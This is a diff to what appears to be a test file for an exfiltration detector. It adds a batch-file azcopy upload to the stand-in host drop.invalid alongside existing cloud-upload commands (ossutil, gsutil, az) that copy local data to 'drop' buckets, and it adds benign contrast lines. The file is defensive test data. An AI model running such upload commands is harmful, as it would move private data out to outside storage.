@@ -16,11 +16,13 @@ EXFIL: tuple[Case, ...] = (
             sh("ossutil64 cp -r /data/log oss://drop/x/"),
             elf("gsutil cp %s gs://drop/"),
             sh("az storage blob upload-batch -s /data -d c"),
+            "@echo off\r\nazcopy copy D:\\scans https://drop.invalid/c\r\n",
         ),
         (
             sh("aws s3 cp s3://pkg/fw.bin /tmp/fw.bin"),
             sh("aws sts get-caller-identity"),
             sh("rclone version"),
+            "The manual: gsutil cp dir gs://bucket\n",
         ),
     ),
     case(
